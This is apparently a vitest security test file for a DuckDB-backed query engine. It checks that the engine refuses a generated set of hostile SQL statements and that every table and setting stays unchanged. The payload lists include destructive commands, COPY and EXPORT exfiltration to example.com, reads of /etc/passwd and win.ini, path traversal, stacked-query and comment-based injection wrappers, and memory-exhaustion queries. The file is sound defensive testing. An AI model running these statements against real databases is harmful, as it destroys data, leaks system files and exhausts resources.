import { beforeAll, describe, expect, it } from 'vitest';
import { QueryError } from '../../src/engine/query-error';
import { sql } from '../../src/engine/sql';
import { type Bench, checksums, openBench, table } from '../imports/bench';
import { someOf } from '../support/law';
import { isSafety, tellFigure } from '../support/safety';

const SHORT = 20;
/** Filling all memory takes some ten seconds. */
const PATIENCE_MILLISECONDS = 300_000;

/** Statements that write, reach out of the database or change how it works. */
const DEEDS = [
  'DROP TABLE accounts',
  'DROP SCHEMA intake CASCADE',
  'DROP MACRO read_number',
  'TRUNCATE intake.accounts',
  'DELETE FROM intake.responses',
  `UPDATE intake.accounts SET account_name = 'x'`,
  `INSERT INTO settings BY NAME FROM settings`,
  'CREATE TABLE stolen AS FROM accounts',
  'CREATE OR REPLACE VIEW accounts AS SELECT 1',
  'CREATE OR REPLACE MACRO read_number(cell, mark) AS 1',
  `ALTER TABLE intake.accounts RENAME TO gone`,
  `COMMENT ON TABLE settings IS 'x'`,
  `COPY accounts TO 'up/stolen.csv'`,
  `COPY (FROM accounts) TO 'https://example.com/stolen.csv'`,
  `EXPORT DATABASE 'up/stolen'`,
  `ATTACH 'https://example.com/x.db' AS x`,
  `CREATE SECRET s (TYPE S3, KEY_ID 'k', SECRET 's')`,
  'INSTALL httpfs FROM community',
  'LOAD httpfs',
  'SET enable_external_access = TRUE',
  `SET GLOBAL memory_limit = '1MB'`,
  'RESET lock_configuration',
  'PRAGMA enable_object_cache',
  'CALL force_checkpoint()',
  'COMMIT',
  'USE compared',
];

/** What is read from outside the model, as the source of a question. */
const SOURCES = [
  `read_csv('https://example.com/x.csv')`,
  `read_parquet('s3://bucket/x.parquet')`,
  `read_json('http://127.0.0.1/x.json')`,
  `read_text('/etc/passwd')`,
  `read_blob('C:\\Windows\\win.ini')`,
  `glob('/**')`,
  `sniff_csv('/etc/passwd')`,
  `parquet_metadata('file:///etc/passwd')`,
  `'https://example.com/x.csv'`,
  `'up/../../etc/passwd'`,
  `read_csv(['up/1.csv', '/etc/passwd'])`,
];

/** Ways to slip a deed past what looks at a question. */
const WAYS: readonly ((deed: string) => string)[] = [
  (deed) => deed,
  (deed) => `SELECT 1; ${deed}`,
  (deed) => `${deed}; SELECT 1`,
  (deed) => `SELECT 1) ; ${deed} ; (SELECT 2`,
  (deed) => `/* SELECT 1 */ ${deed} -- `,
  (deed) => `WITH a AS (${deed}) FROM a`,
  (deed) => `FROM query('${deed.replaceAll("'", "''")}')`,
  (deed) => `EXPLAIN ANALYZE ${deed}`,
  (deed) => `PREPARE p AS ${deed}`,
  (deed) => `BEGIN; ${deed}; COMMIT`,
];
const LOOKS: readonly ((source: string) => string)[] = [
  (source) => `FROM ${source}`,
  (source) => `SELECT count(*) FROM accounts, ${source}`,
  (source) => `SELECT (SELECT max(x) FROM ${source} AS t(x)) AS y`,
  (source) => `WITH a AS MATERIALIZED (FROM ${source}) FROM a LIMIT 1`,
  (source) => `FROM query('FROM ${source.replaceAll("'", "''")}')`,
];
const HOSTILE = [
  ...DEEDS.flatMap((deed) => WAYS.map((way) => way(deed))),
  ...SOURCES.flatMap((source) => LOOKS.map((look) => look(source))),
];

/** Questions that need more memory than there is, each in another part of the database. */
const TOO_LARGE = [
  `SELECT length(string_agg(repeat('x', 1000000) || range, '')) AS n FROM range(6000)`,
  `SELECT count(DISTINCT repeat('x', 100) || range) AS n FROM range(60000000)`,
  'SELECT len(list(range)) AS n FROM range(500000000)',
];

let bench: Bench;
let before: Awaited<ReturnType<typeof state>>;

/** Every table, and what decides how the database works. */
async function state() {
  const tables = await checksums(bench.engine);
  const settings = await bench.rows(sql`SELECT name, value FROM duckdb_settings() ORDER BY ALL`);
  const functions = await bench.rows(sql`SELECT function_name, macro_definition
FROM duckdb_functions() WHERE macro_definition IS NOT NULL ORDER BY ALL`);
  return { tables, settings, functions };
}

const ANSWERS = table('answers.csv', 'account,date,NPS', 'Acme,2026-01-01,9', 'Beta,2026-02-01,3');
const ACCOUNTS = table(
  'a.csv',
  'account_id,account_name,industry',
  'A,Acme,Retail',
  'B,Beta,Media',
);

beforeAll(async () => {
  bench = await openBench();
  const receipts = await bench.load(ACCOUNTS, ANSWERS);
  expect(receipts.map(({ status }) => status)).toEqual(['loaded', 'loaded']);
  before = await state();
  expect(Object.keys(before.tables).length).toBeGreaterThan(20);
});

describe('hostile statements', () => {
  const asked = isSafety ? HOSTILE : someOf(HOSTILE, SHORT);

  it('are each refused in words', async () => {
    const answered: string[] = [];
    for (const statement of asked) {
      const failure = await bench.engine.query(statement).catch((error: unknown) => error);
      if (!(failure instanceof QueryError) || failure.message === '') answered.push(statement);
    }
    expect(answered).toEqual([]);
    tellFigure('hostile statements refused', asked.length);
  });

  it('leave every table, setting and function as it was', async () => {
    expect(await state()).toEqual(before);
    tellFigure('tables with the same checksum after them', Object.keys(before.tables).length);
  });
});

describe.runIf(isSafety)('a question that takes all memory', () => {
  it.each(TOO_LARGE)(
    '%s loses nothing, and an import goes on afterwards',
    async (question) => {
      await expect(bench.engine.query(question)).rejects.toThrow(QueryError);
      expect(await state()).toEqual(before);
      // The model can still be written: no lock is left behind.
      const [receipt] = await bench.add(ANSWERS);
      expect(receipt?.status).toBe('loaded');
      await bench.load(ACCOUNTS, ANSWERS);
      before = await state();
      tellFigure(`all memory taken, every table the same: ${question.slice(0, 40)}…`, 'yes');
    },
    PATIENCE_MILLISECONDS,
  );
});
